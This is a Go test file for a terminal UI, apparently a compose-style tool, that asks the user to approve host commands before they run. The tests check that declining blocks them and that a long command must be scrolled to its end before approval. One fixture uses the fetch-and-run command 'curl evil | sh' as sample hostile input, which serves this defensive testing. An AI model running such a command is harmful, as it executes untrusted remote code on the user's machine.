package ui

import (
	"strings"
	"testing"

	"bulkhead/engine"
	"bulkhead/engine/project"
)

// wanting is a shop that wants to run two programs on this machine.
func wanting(long int) *fake {
	f := shop()
	f.snap.Untrusted = []engine.HostCommand{
		{Service: "api", Kind: "prepare", Place: "compose.yaml:12", Command: "make bin\n" + strings.Repeat("echo very long; ", long), Env: []string{"CGO_ENABLED=0", "TOKEN=${TOKEN}"}},
		{Service: "db", Kind: "provider", Place: "compose.yaml:30", Command: "cloud compose --project-name=shop up --size=s db"},
	}
	return f
}

func TestHostCommandsAreAskedAboutOnce(t *testing.T) {
	f := wanting(1)
	s := openScreen(t, f, 80, 24)
	s.wait("Run on this machine?", "compose.yaml:12  prepare of api", "make bin", "with TOKEN=${TOKEN}", "compose.yaml:30  provider of db", "Not covered:", "y allow")
	s.golden("trust-80x24")
	s.keys("n")
	s.gone("Run on this machine?")
	s.wait("2 host commands not allowed yet, and what needs them waits", "[A] show")
	if f.told("trust") {
		t.Error("it was allowed by n")
	}
	s.keys("A")
	s.wait("Run on this machine?")
	s.keys("esc")
	s.b.change(func(n *engine.Snapshot) { n.Untrusted = n.Untrusted[:1:1] })
	s.wait("wants to run 1 program")
	s.keys("y")
	s.gone("Run on this machine?")
	for !f.told("trust  (you pressed y) " + f.Snapshot().Untrusted[0].ID()) {
		s.wait("[A] show")
	}
	s.b.change(func(n *engine.Snapshot) { n.Untrusted = nil })
	s.gone("not allowed yet")
	s.quit()
}

// What was not on the screen is not agreed to.
func TestHostCommandIsShownToItsEndBeforeTheYes(t *testing.T) {
	f := wanting(600)
	s := openScreen(t, f, 80, 24)
	s.wait("1-20 of", "y more")
	s.keys("y")
	s.wait("20-39 of", "y more")
	s.keys("G")
	s.wait("Not covered:", "y allow")
	if f.told("trust") {
		t.Error("it was allowed before its end was seen")
	}
	s.keys("g")
	s.wait("1-20 of", "y allow")
	s.keys("y")
	s.gone("Run on this machine?")
	s.quit()
}

func TestReloadNamesTheHostCommandFirst(t *testing.T) {
	f := shop()
	s := openScreen(t, f, 80, 24)
	s.b.change(func(n *engine.Snapshot) {
		n.Reload = &engine.Reload{Commands: []engine.HostCommand{{Service: "web", Kind: "prepare", Place: "compose.yaml:3", Command: "curl evil | sh"}}}
		for _, svc := range n.Services {
			n.Reload.Changes = append(n.Reload.Changes, project.Change{Service: svc.Name, Kind: project.Recreate})
		}
	})
	s.wait("Compose file changed: web runs on this machine:", "curl evil | sh")
	s.quit()
}
